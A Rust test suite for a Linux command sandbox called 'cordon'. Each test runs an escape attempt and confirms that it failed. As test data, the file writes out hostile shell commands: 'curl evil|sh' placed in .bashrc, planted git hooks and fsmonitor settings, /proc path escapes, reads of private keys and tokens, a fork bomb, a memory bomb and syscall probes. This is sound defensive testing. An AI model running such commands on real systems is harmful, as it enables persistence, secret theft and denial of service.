//! Attempts to get out of `cordon run`, through the real binary. Each test tries something a
//! hostile command would, and checks on the host that nothing happened.
//!
//! These need unprivileged user namespaces. Where they are missing the tests skip with the
//! reason, unless `CORDON_TEST_NO_SKIP` is set (CI), where a skip is a failure.

use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

struct Sandbox {
    _tmp: tempfile::TempDir,
    /// The command's working directory (writable).
    ws: PathBuf,
    /// A directory outside the workspace, standing in for the rest of the host.
    outside: PathBuf,
}

impl Sandbox {
    /// `None` (after printing why) when this machine cannot run sandboxes.
    fn new() -> Option<Self> {
        let tmp = tempfile::tempdir().expect("temp dir");
        let ws = tmp.path().join("ws");
        let outside = tmp.path().join("outside");
        std::fs::create_dir_all(&ws).expect("mkdir");
        std::fs::create_dir_all(&outside).expect("mkdir");
        let sb = Sandbox {
            _tmp: tmp,
            ws,
            outside,
        };
        let probe = sb.run(&["--", "true"]);
        if probe.status.success() {
            return Some(sb);
        }
        let why = format!(
            "sandbox tests skipped: `cordon run -- true` failed here: {}",
            stderr(&probe)
        );
        assert!(
            std::env::var_os("CORDON_TEST_NO_SKIP").is_none(),
            "{why} (CORDON_TEST_NO_SKIP is set)"
        );
        eprintln!("{why}");
        None
    }

    fn run(&self, args: &[&str]) -> Output {
        self.run_env(args, &[])
    }

    fn run_env(&self, args: &[&str], env: &[(&str, &str)]) -> Output {
        Command::new(cordon_bin())
            .arg("run")
            .args(args)
            .current_dir(&self.ws)
            .envs(env.iter().copied())
            .output()
            .expect("run cordon")
    }

    fn sh(&self, script: &str) -> Output {
        self.run(&["-c", script])
    }
}

/// The binary under test: `CORDON_BIN` when CI runs this suite as an unprivileged user from a
/// copied location, else the one cargo built.
fn cordon_bin() -> PathBuf {
    std::env::var_os("CORDON_BIN").map_or_else(
        || PathBuf::from(env!("CARGO_BIN_EXE_cordon")),
        PathBuf::from,
    )
}

fn stderr(o: &Output) -> String {
    String::from_utf8_lossy(&o.stderr).into_owned()
}

fn stdout(o: &Output) -> String {
    String::from_utf8_lossy(&o.stdout).into_owned()
}

fn q(p: &Path) -> String {
    format!("'{}'", p.display())
}

#[test]
fn the_working_directory_and_tmp_are_writable() {
    let Some(sb) = Sandbox::new() else { return };
    let o = sb.sh("echo hi > made.txt && echo t > \"$TMPDIR/t\" && cat \"$TMPDIR/t\"");
    assert!(o.status.success(), "{}", stderr(&o));
    assert_eq!(
        std::fs::read_to_string(sb.ws.join("made.txt")).expect("written"),
        "hi\n"
    );
    assert_eq!(stdout(&o), "t\n");
}

#[test]
fn writes_outside_the_workspace_do_not_reach_the_host() {
    let Some(sb) = Sandbox::new() else { return };
    let target = sb.outside.join("planted");
    let attempts = [
        format!("echo x > {}", q(&target)),
        "echo x > ../outside/planted".to_string(),
        "cd .. && echo x > outside/planted".to_string(),
        format!("ln -s {} link && echo x > link/planted", q(&sb.outside)),
        format!("echo x > /proc/self/root{}", target.display()),
        "echo x > /proc/1/cwd/../outside/planted".to_string(),
        format!("cp /etc/hostname {}", q(&target)),
        format!("mkdir -p {}/planted", q(&sb.outside)),
        format!("mv made {}", q(&target)),
    ];
    std::fs::write(sb.ws.join("made"), "m").expect("write");
    for a in &attempts {
        let o = sb.sh(a);
        assert!(
            !target.exists(),
            "`{a}` wrote outside the workspace: {}",
            stderr(&o)
        );
    }
    assert!(
        sb.ws.join("made").exists(),
        "a failed move must not lose the file"
    );
    let home = std::env::var("HOME").unwrap_or_else(|_| "/root".into());
    let planted = Path::new(&home).join(format!(".cordon-escape-{}", std::process::id()));
    sb.sh(&format!("echo x > {}", q(&planted)));
    assert!(
        !planted.exists(),
        "the sandbox wrote into the home directory"
    );
}

#[test]
fn hard_links_to_host_files_cannot_be_made() {
    let Some(sb) = Sandbox::new() else { return };
    let victim = sb.outside.join("victim");
    std::fs::write(&victim, "original").expect("write");
    let o = sb.sh(&format!("ln {} hard && echo changed > hard", q(&victim)));
    assert_eq!(
        std::fs::read_to_string(&victim).expect("read"),
        "original",
        "{}",
        stderr(&o)
    );
}

#[test]
fn deny_write_keeps_a_path_read_only_inside_the_workspace() {
    let Some(sb) = Sandbox::new() else { return };
    std::fs::create_dir_all(sb.ws.join(".git")).expect("mkdir");
    std::fs::write(sb.ws.join(".git/config"), "[core]\n").expect("write");
    let o = sb.run(&[
        "--deny-write",
        ".git",
        "-c",
        "echo '[core] fsmonitor=evil' >> .git/config; rm -rf .git; echo ok > fine",
    ]);
    assert_eq!(
        std::fs::read_to_string(sb.ws.join(".git/config")).expect("read"),
        "[core]\n",
        "{}",
        stderr(&o)
    );
    assert!(
        sb.ws.join("fine").exists(),
        "the rest of the workspace stays writable"
    );
}

#[test]
fn host_processes_are_invisible() {
    let Some(sb) = Sandbox::new() else { return };
    let o = sb.sh("ls /proc | grep -c '^[0-9]'");
    let count: u32 = stdout(&o).trim().parse().expect("a count");
    assert!(count <= 5, "the sandbox sees {count} processes");
    let o = sb.sh(&format!("kill -0 {}", std::process::id()));
    assert!(
        !o.status.success(),
        "the sandbox could signal the test process"
    );
}

#[test]
fn no_capabilities_and_no_privilege_gain() {
    let Some(sb) = Sandbox::new() else { return };
    let o = sb.sh(
        "grep -E '^Cap(Eff|Prm|Bnd|Amb):' /proc/self/status; grep NoNewPrivs /proc/self/status",
    );
    let out = stdout(&o);
    for line in out.lines().filter(|l| l.starts_with("Cap")) {
        assert!(
            line.ends_with("0000000000000000"),
            "capability left: {line}"
        );
    }
    assert!(out.contains("NoNewPrivs:\t1"), "{out}");
    let o = sb.sh("mount -t tmpfs none /mnt 2>&1 || echo refused");
    assert!(
        stdout(&o).contains("refused"),
        "mount worked: {}",
        stdout(&o)
    );
}

#[test]
fn no_network_but_loopback() {
    let Some(sb) = Sandbox::new() else { return };
    let listener = TcpListener::bind("127.0.0.1:0").expect("listen");
    let port = listener.local_addr().expect("addr").port();
    listener.set_nonblocking(true).expect("nonblocking");
    let o = sb.sh(&format!(
        "exec 3<>/dev/tcp/127.0.0.1/{port} && echo connected"
    ));
    let o2 = Command::new(cordon_bin())
        .args([
            "run",
            "--",
            "bash",
            "-c",
            &format!("exec 3<>/dev/tcp/127.0.0.1/{port} && echo connected"),
        ])
        .current_dir(&sb.ws)
        .output()
        .expect("run");
    assert!(
        !stdout(&o).contains("connected") && !stdout(&o2).contains("connected"),
        "reached the host's loopback"
    );
    assert!(
        listener.accept().is_err(),
        "the host listener got a connection"
    );
    let o = sb.sh("grep -c ':' /proc/net/dev");
    assert_eq!(
        stdout(&o).trim(),
        "1",
        "only lo should exist: {}",
        stdout(&sb.sh("cat /proc/net/dev"))
    );
}

#[test]
fn exit_status_is_the_commands() {
    let Some(sb) = Sandbox::new() else { return };
    assert_eq!(sb.sh("exit 7").status.code(), Some(7));
    assert_eq!(sb.sh("kill -9 $$").status.code(), Some(137));
    let o = sb.run(&["--", "no-such-command-xyz"]);
    assert_eq!(o.status.code(), Some(127), "{}", stderr(&o));
    assert!(stderr(&o).contains("no-such-command-xyz"), "{}", stderr(&o));
    let o = sb.run(&["--timeout", "0.5", "--", "sleep", "30"]);
    assert_eq!(o.status.code(), Some(124), "{}", stderr(&o));
}

#[test]
fn background_processes_die_with_the_run() {
    let Some(sb) = Sandbox::new() else { return };
    let marker = format!("cordon-bg-{}", std::process::id());
    let o = sb.sh(&format!("(exec -a {marker} sleep 300) & echo started"));
    assert!(stdout(&o).contains("started"), "{}", stderr(&o));
    std::thread::sleep(std::time::Duration::from_millis(200));
    let ps = Command::new("pgrep")
        .args(["-f", &marker])
        .output()
        .expect("pgrep");
    assert!(
        ps.stdout.is_empty(),
        "a background process outlived the run: {}",
        String::from_utf8_lossy(&ps.stdout)
    );
}

#[test]
fn secrets_are_not_passed_to_the_command() {
    let Some(sb) = Sandbox::new() else { return };
    let env = [
        ("MY_SERVICE_TOKEN", "s3cret"),
        ("OPENAI_API_KEY", "k"),
        ("PLAIN_VAR", "fine"),
    ];
    let o = sb.run_env(
        &[
            "-c",
            "echo ${MY_SERVICE_TOKEN:-none} ${OPENAI_API_KEY:-none} $PLAIN_VAR",
        ],
        &env,
    );
    assert_eq!(stdout(&o).trim(), "none none fine");
    let o = sb.run_env(
        &["--keep-env", "OPENAI_API_KEY", "-c", "echo $OPENAI_API_KEY"],
        &env,
    );
    assert_eq!(stdout(&o).trim(), "k");
}

#[test]
fn devices_are_a_minimal_set() {
    let Some(sb) = Sandbox::new() else { return };
    let o = sb.sh("ls /dev");
    let out = stdout(&o);
    assert!(out.contains("null") && out.contains("urandom"), "{out}");
    assert!(
        !out.contains("sda") && !out.contains("mem") && !out.contains("kmsg"),
        "host devices visible: {out}"
    );
    let o = sb.sh("mknod /tmp/dev-sda b 8 0 2>&1 || echo refused");
    assert!(stdout(&o).contains("refused"), "{}", stdout(&o));
}

#[test]
fn the_syscall_filter_refuses_what_breaks_the_walls() {
    let Some(sb) = Sandbox::new() else { return };
    let o = sb.sh("grep '^Seccomp:' /proc/self/status");
    assert_eq!(stdout(&o).trim(), "Seccomp:\t2", "no filter installed");
    let o = sb.sh("unshare -U true 2>&1 || echo refused");
    assert!(
        stdout(&o).contains("refused"),
        "a nested user namespace was allowed: {}",
        stdout(&o)
    );
    // Each line tries one call and prints its errno; EPERM (1) is the filter's answer.
    let script = r#"
import ctypes, errno, fcntl, socket, termios
libc = ctypes.CDLL(None, use_errno=True)
def call(name, *args):
    r = getattr(libc, name)(*args)
    print(name, ctypes.get_errno() if r == -1 else "allowed")
call("ptrace", 16, 1, 0, 0)
call("syscall", 321, 0, 0, 0)          # bpf
call("syscall", 425, 8, 0)             # io_uring_setup
call("syscall", 250, 0, 0, 0, 0)       # keyctl
for family in (socket.AF_UNIX, socket.AF_VSOCK):
    try:
        socket.socket(family, socket.SOCK_STREAM)
        print("socket", family, "allowed")
    except OSError as e:
        print("socket", family, e.errno)
try:
    fcntl.ioctl(0, termios.TIOCSTI, b"x")
    print("TIOCSTI allowed")
except OSError as e:
    print("TIOCSTI", e.errno)
"#;
    let o = sb.run(&["--", "python3", "-c", script]);
    let out = stdout(&o);
    let lines: Vec<&str> = out.lines().collect();
    assert_eq!(lines.len(), 7, "{out}{}", stderr(&o));
    for line in lines {
        assert!(line.ends_with(" 1"), "not refused with EPERM: {line}");
    }
}

#[test]
fn unix_sockets_only_when_allowed() {
    let Some(sb) = Sandbox::new() else { return };
    let sock = sb.ws.join("agent.sock");
    let listener = std::os::unix::net::UnixListener::bind(&sock).expect("bind");
    listener.set_nonblocking(true).expect("nonblocking");
    let connect = format!(
        "import socket; s = socket.socket(socket.AF_UNIX); s.connect({:?}); print('connected')",
        sock.display().to_string()
    );
    let o = sb.run(&["--", "python3", "-c", &connect]);
    assert!(
        !stdout(&o).contains("connected"),
        "connected without --allow-unix-socket"
    );
    let o = sb.run(&[
        "--allow-unix-socket",
        sock.to_str().expect("utf-8"),
        "--",
        "python3",
        "-c",
        &connect,
    ]);
    assert!(stdout(&o).contains("connected"), "{}", stderr(&o));
}

#[test]
fn the_re_executed_helper_enforces_the_same() {
    // A multi-threaded caller starts the helper as a fresh process; force that path here.
    let Some(sb) = Sandbox::new() else { return };
    let env = [("CORDON_SANDBOX_REEXEC", "1")];
    let target = sb.outside.join("planted");
    let o = sb.run_env(
        &[
            "-c",
            &format!("echo x > {}; echo ok > here; exit 3", q(&target)),
        ],
        &env,
    );
    assert_eq!(o.status.code(), Some(3), "{}", stderr(&o));
    assert!(!target.exists());
    assert!(sb.ws.join("here").exists());
    let o = sb.run_env(&["--", "no-such-command-xyz"], &env);
    assert_eq!(o.status.code(), Some(127), "{}", stderr(&o));
}

#[test]
fn deny_read_hides_secrets_and_allow_read_reopens() {
    let Some(sb) = Sandbox::new() else { return };
    std::fs::create_dir_all(sb.ws.join("secrets/public")).expect("mkdir");
    std::fs::write(sb.ws.join("secrets/id_rsa"), "PRIVATE KEY").expect("write");
    std::fs::write(sb.ws.join("secrets/public/readme"), "hello").expect("write");
    std::fs::write(sb.outside.join("token"), "TOKEN").expect("write");
    let token = sb.outside.join("token");
    let args = [
        "--deny-read",
        "secrets",
        "--deny-read",
        token.to_str().expect("utf-8"),
        "--allow-read",
        "secrets/public",
        "-c",
        &format!(
            "cat secrets/id_rsa {t} 2>/dev/null; ls secrets; cat secrets/public/readme; cp -r secrets/. copy 2>/dev/null; echo",
            t = q(&token)
        ),
    ];
    let o = sb.run(&args);
    let out = stdout(&o);
    assert!(
        !out.contains("PRIVATE KEY") && !out.contains("TOKEN"),
        "a hidden secret was read: {out}"
    );
    assert!(
        out.contains("public") && out.contains("hello"),
        "the re-opened path is missing: {out}{}",
        stderr(&o)
    );
    assert!(
        !sb.ws.join("copy/id_rsa").exists(),
        "the secret was copied out"
    );
    let o = sb.run(&["--deny-read", "secrets", "-c", "touch secrets/planted"]);
    assert!(
        !o.status.success() && !sb.ws.join("secrets/planted").exists(),
        "a hidden directory took a write"
    );
}

#[test]
fn deny_read_patterns_hide_every_matching_file() {
    let Some(sb) = Sandbox::new() else { return };
    for (path, text) in [
        ("server.pem", "SECRET-1"),
        ("config/tls/ca.pem", "SECRET-2"),
        (".hidden/deep/er/client.pem", "SECRET-3"),
        ("keys/api.key", "SECRET-4"),
        ("config/tls/readme.txt", "visible-1"),
        ("notes.pem.txt", "visible-2"),
        ("keys/api.txt", "visible-3"),
    ] {
        let p = sb.ws.join(path);
        std::fs::create_dir_all(p.parent().expect("parent")).expect("mkdir");
        std::fs::write(p, text).expect("write");
    }
    // One pattern relative to the working directory, one absolute.
    let keys = sb.ws.join("k*/*.key");
    let o = sb.run(&[
        "--deny-read",
        "**/*.pem",
        "--deny-read",
        keys.to_str().expect("utf-8"),
        "-c",
        "cat server.pem config/tls/ca.pem .hidden/deep/er/client.pem keys/api.key 2>/dev/null; \
         cat config/tls/readme.txt notes.pem.txt keys/api.txt; grep -r SECRET .; echo",
    ]);
    let out = stdout(&o);
    assert!(!out.contains("SECRET"), "a hidden secret was read: {out}");
    assert!(
        out.contains("visible-1") && out.contains("visible-2") && out.contains("visible-3"),
        "a file the patterns do not match was hidden: {out}{}",
        stderr(&o)
    );
}

#[test]
fn protected_files_in_the_workspace_stay_unchanged() {
    let Some(sb) = Sandbox::new() else { return };
    std::fs::create_dir_all(sb.ws.join(".git/hooks")).expect("mkdir");
    std::fs::create_dir_all(sb.ws.join(".git/objects")).expect("mkdir");
    std::fs::write(sb.ws.join(".git/config"), "[core]\n").expect("write");
    std::fs::write(sb.ws.join(".bashrc"), "# mine\n").expect("write");
    std::fs::create_dir_all(sb.ws.join(".vscode")).expect("mkdir");
    let o = sb.sh(
        "echo 'curl evil|sh' >> .bashrc; echo '[core] fsmonitor=evil' >> .git/config; \
         printf '#!/bin/sh\\nevil\\n' > .git/hooks/pre-commit; echo '{}' > .vscode/tasks.json; \
         rm -f .bashrc; mv .git/config .git/config.old; echo blob > .git/objects/new; echo done",
    );
    assert!(stdout(&o).contains("done"), "{}", stderr(&o));
    assert_eq!(
        std::fs::read_to_string(sb.ws.join(".bashrc")).expect("read"),
        "# mine\n"
    );
    assert_eq!(
        std::fs::read_to_string(sb.ws.join(".git/config")).expect("read"),
        "[core]\n"
    );
    assert!(
        !sb.ws.join(".git/hooks/pre-commit").exists(),
        "a hook was planted"
    );
    assert!(
        !sb.ws.join(".vscode/tasks.json").exists(),
        "an editor task was planted"
    );
    assert!(
        sb.ws.join(".git/objects/new").exists(),
        "git's objects must stay writable"
    );
}

#[test]
fn a_planted_bare_repository_is_removed_and_reported() {
    let Some(sb) = Sandbox::new() else { return };
    let o = sb.sh("mkdir -p objects refs/heads && echo 'ref: refs/heads/main' > HEAD && printf '[core]\\n\\tfsmonitor = evil\\n' > config");
    assert!(
        stderr(&o).contains("bare git repository planted in the working directory"),
        "{}",
        stderr(&o)
    );
    for name in ["HEAD", "objects", "refs", "config"] {
        assert!(!sb.ws.join(name).exists(), "{name} was left behind");
    }
}

#[test]
fn signals_to_cordon_reach_the_command() {
    let Some(sb) = Sandbox::new() else { return };
    use std::io::{BufRead, BufReader};
    let mut child = Command::new(cordon_bin())
        .args([
            "run",
            "-c",
            "trap 'echo got-term; exit 3' TERM; echo ready; while :; do sleep 0.05; done",
        ])
        .current_dir(&sb.ws)
        .stdout(std::process::Stdio::piped())
        .spawn()
        .expect("spawn");
    let mut out = BufReader::new(child.stdout.take().expect("stdout"));
    let mut line = String::new();
    out.read_line(&mut line).expect("read");
    assert_eq!(line.trim(), "ready");
    let pid = child.id().to_string();
    Command::new("kill")
        .args(["-TERM", &pid])
        .status()
        .expect("kill");
    let mut rest = String::new();
    std::io::Read::read_to_string(&mut out, &mut rest).expect("read");
    let status = child.wait().expect("wait");
    assert!(
        rest.contains("got-term"),
        "the command did not see SIGTERM: {rest:?}"
    );
    assert_eq!(status.code(), Some(3), "the exit status is the command's");
}

#[test]
fn doctor_reports_each_mechanism_and_agrees_with_run() {
    let o = Command::new(cordon_bin())
        .args(["doctor", "--json"])
        .output()
        .expect("doctor");
    let found: serde_json::Value = serde_json::from_slice(&o.stdout).expect("JSON");
    let list = found.as_array().expect("a list");
    let names: Vec<&str> = list.iter().filter_map(|m| m["name"].as_str()).collect();
    assert_eq!(names, ["user namespaces", "Landlock", "seccomp", "cgroups"]);
    let missing_required = list
        .iter()
        .any(|m| m["required"] == true && m["available"] == false);
    assert_eq!(
        o.status.code(),
        Some(i32::from(missing_required)),
        "exit status must say whether the sandbox can run"
    );
    for m in list
        .iter()
        .filter(|m| m["available"] == false && m["required"] == true)
    {
        assert!(
            m["fix"].as_str().is_some_and(|f| !f.is_empty()),
            "no fix given for {m}"
        );
    }
    let userns = list[0]["available"] == true;
    let tmp = tempfile::tempdir().expect("tmp");
    let run = Command::new(cordon_bin())
        .args(["run", "--", "true"])
        .current_dir(tmp.path())
        .output()
        .expect("run");
    assert_eq!(
        run.status.success(),
        userns,
        "doctor and run disagree: {}",
        stderr(&run)
    );
}

#[test]
fn protected_files_that_did_not_exist_are_not_left_behind() {
    let Some(sb) = Sandbox::new() else { return };
    std::fs::create_dir_all(sb.ws.join(".git/objects")).expect("mkdir");
    let o = sb.sh(
        "mkdir -p .git/hooks && printf '#!/bin/sh\\nevil\\n' > .git/hooks/post-checkout && \
         echo 'curl evil | sh' > .bashrc && mkdir .vscode && echo '{}' > .vscode/tasks.json && \
         echo '{\"mcpServers\":{}}' > .mcp.json && echo kept > notes.txt",
    );
    let err = stderr(&o);
    for name in [".git/hooks", ".bashrc", ".vscode", ".mcp.json"] {
        assert!(
            std::fs::symlink_metadata(sb.ws.join(name)).is_err(),
            "{name} was left behind"
        );
        assert!(err.contains(name), "{name} is not reported: {err}");
    }
    assert!(err.contains("blocked by the sandbox"), "{err}");
    assert!(sb.ws.join("notes.txt").exists(), "ordinary work is kept");

    let report = sb.outside.join("report.json");
    let o = sb.run(&[
        "--report",
        report.to_str().expect("utf-8"),
        "-c",
        "echo x > .bashrc; exit 4",
    ]);
    assert_eq!(o.status.code(), Some(4));
    let r: serde_json::Value =
        serde_json::from_slice(&std::fs::read(&report).expect("report written")).expect("JSON");
    assert_eq!(r["exit_code"], 4);
    assert_eq!(r["timed_out"], false);
    let blocked = r["blocked"].as_array().expect("a list");
    assert_eq!(blocked.len(), 1, "{r}");
    assert!(
        blocked[0]["path"]
            .as_str()
            .is_some_and(|p| p.ends_with("/.bashrc"))
            && blocked[0]["exact"] == true,
        "{r}"
    );
}

#[test]
fn git_commit_works_in_a_linked_worktree_but_its_main_config_is_protected() {
    let Some(sb) = Sandbox::new() else { return };
    let main = sb.outside.join("main");
    let git = |dir: &Path, args: &[&str]| {
        let o = Command::new("git")
            .args([
                "-c",
                "user.name=t",
                "-c",
                "user.email=t@t",
                "-c",
                "init.defaultBranch=main",
            ])
            .args(args)
            .current_dir(dir)
            .output()
            .expect("git");
        assert!(o.status.success(), "git {args:?}: {}", stderr(&o));
    };
    std::fs::create_dir_all(&main).expect("mkdir");
    git(&main, &["init", "-q"]);
    git(&main, &["commit", "-q", "--allow-empty", "-m", "first"]);
    let wt = sb.outside.join("wt");
    git(
        &main,
        &[
            "worktree",
            "add",
            "-q",
            wt.to_str().expect("utf-8"),
            "-b",
            "feature",
        ],
    );
    let config_before = std::fs::read_to_string(main.join(".git/config")).expect("config");
    let o = Command::new(cordon_bin())
        .args(["run", "-c"])
        .arg(format!(
            "git -c user.name=t -c user.email=t@t commit -q --allow-empty -m in-sandbox && echo committed; \
             echo '[core] fsmonitor=evil' >> {cfg}; mkdir -p {hooks} && echo evil > {hooks}/post-commit",
            cfg = q(&main.join(".git/config")),
            hooks = q(&main.join(".git/hooks"))
        ))
        .current_dir(&wt)
        .output()
        .expect("run");
    assert!(
        stdout(&o).contains("committed"),
        "git commit failed in the worktree: {}",
        stderr(&o)
    );
    let log = Command::new("git")
        .args(["log", "--format=%s", "feature"])
        .current_dir(&main)
        .output()
        .expect("git log");
    assert!(
        String::from_utf8_lossy(&log.stdout).contains("in-sandbox"),
        "the commit is not in the main repository"
    );
    assert_eq!(
        std::fs::read_to_string(main.join(".git/config")).expect("config"),
        config_before
    );
    assert!(
        !main.join(".git/hooks/post-commit").exists(),
        "a hook was planted in the main repository"
    );
}

#[test]
fn fork_bombs_and_memory_bombs_are_contained() {
    let Some(sb) = Sandbox::new() else { return };
    let forks = r#"
import os, time
made = 0
try:
    for _ in range(500):
        if os.fork() == 0:
            time.sleep(5)
            os._exit(0)
        made += 1
    print("all", made)
except OSError:
    print("stopped at", made)
"#;
    let o = sb.run(&["--max-processes", "40", "--", "python3", "-c", forks]);
    let out = stdout(&o);
    let made: u32 = out
        .trim()
        .strip_prefix("stopped at ")
        .and_then(|n| n.parse().ok())
        .unwrap_or_else(|| panic!("no limit: {out}{}", stderr(&o)));
    assert!(made < 40, "{made} processes despite --max-processes 40");

    // A real fork bomb ends with the run.
    let o = sb.run(&[
        "--max-processes",
        "64",
        "--timeout",
        "3",
        "--",
        "bash",
        "-c",
        ":(){ :|:& };:; wait",
    ]);
    assert!(o.status.code().is_some(), "{}", stderr(&o));

    let o = sb.run(&[
        "--memory",
        "128M",
        "--",
        "python3",
        "-c",
        "x = bytearray(1 << 30); print('allocated')",
    ]);
    assert!(
        !stdout(&o).contains("allocated") && !o.status.success(),
        "a 1 GiB allocation passed a 128M limit"
    );
}

#[test]
fn renaming_or_swapping_a_protected_path_does_not_get_around_it() {
    let Some(sb) = Sandbox::new() else { return };
    std::fs::create_dir_all(sb.ws.join(".git/hooks")).expect("mkdir");
    std::fs::create_dir_all(sb.ws.join(".git/objects")).expect("mkdir");
    std::fs::write(sb.ws.join(".git/config"), "[core]\n").expect("write");
    std::fs::write(sb.ws.join(".bashrc"), "# mine\n").expect("write");
    sb.sh(
        "mv .git .git2; mkdir -p .git/hooks; echo evil > .git/hooks/pre-commit; \
         mv .git/hooks .git/hooks.old; mkdir .git/hooks; echo evil > .git/hooks/pre-commit; \
         rm -f .bashrc; ln -s /tmp/evil .bashrc; mv .bashrc .bashrc.old; echo evil > .bashrc",
    );
    assert!(
        !sb.ws.join(".git2").exists(),
        "the parent of protected paths was renamed"
    );
    assert!(
        !sb.ws.join(".git/hooks/pre-commit").exists(),
        "a hook was planted"
    );
    assert_eq!(
        std::fs::read_to_string(sb.ws.join(".git/config")).expect("read"),
        "[core]\n"
    );
    let meta = std::fs::symlink_metadata(sb.ws.join(".bashrc")).expect(".bashrc");
    assert!(meta.is_file(), ".bashrc was swapped for a symlink");
    assert_eq!(
        std::fs::read_to_string(sb.ws.join(".bashrc")).expect("read"),
        "# mine\n"
    );
}

#[test]
fn kernel_and_shared_state_stay_untouched() {
    let Some(sb) = Sandbox::new() else { return };
    let tag = format!("cordon-escape-{}", std::process::id());
    let host_hostname = std::fs::read_to_string("/proc/sys/kernel/hostname").expect("hostname");
    // Kernel settings a command might try to change; this machine may lack some of them.
    let knobs: Vec<(&str, String)> = ["/proc/sys/kernel/sysrq", "/proc/sys/vm/swappiness"]
        .into_iter()
        .filter_map(|k| std::fs::read_to_string(k).ok().map(|v| (k, v)))
        .collect();
    assert!(
        !knobs.is_empty(),
        "no kernel setting to check on this machine"
    );
    let script = format!(
        "echo x > /dev/shm/{tag}; echo x > /tmp/{tag}; hostname evil-{tag}; \
         for k in /proc/sys/kernel/sysrq /proc/sys/vm/swappiness; do echo 61 > $k; done; \
         ip link add {tag} type dummy 2>/dev/null; chroot / true; touch /{tag} /usr/{tag} /etc/{tag}; echo done"
    );
    let o = sb.sh(&script);
    assert!(stdout(&o).contains("done"), "{}", stderr(&o));
    for p in [
        format!("/dev/shm/{tag}"),
        format!("/tmp/{tag}"),
        format!("/{tag}"),
        format!("/usr/{tag}"),
        format!("/etc/{tag}"),
    ] {
        assert!(!Path::new(&p).exists(), "{p} reached the host");
    }
    assert_eq!(
        std::fs::read_to_string("/proc/sys/kernel/hostname").expect("hostname"),
        host_hostname
    );
    for (k, before) in &knobs {
        assert_eq!(
            &std::fs::read_to_string(k).expect("read"),
            before,
            "{k} was changed"
        );
    }
    let links = std::fs::read_to_string("/proc/net/dev").expect("net");
    assert!(
        !links.contains(&tag),
        "a network device appeared on the host"
    );
}
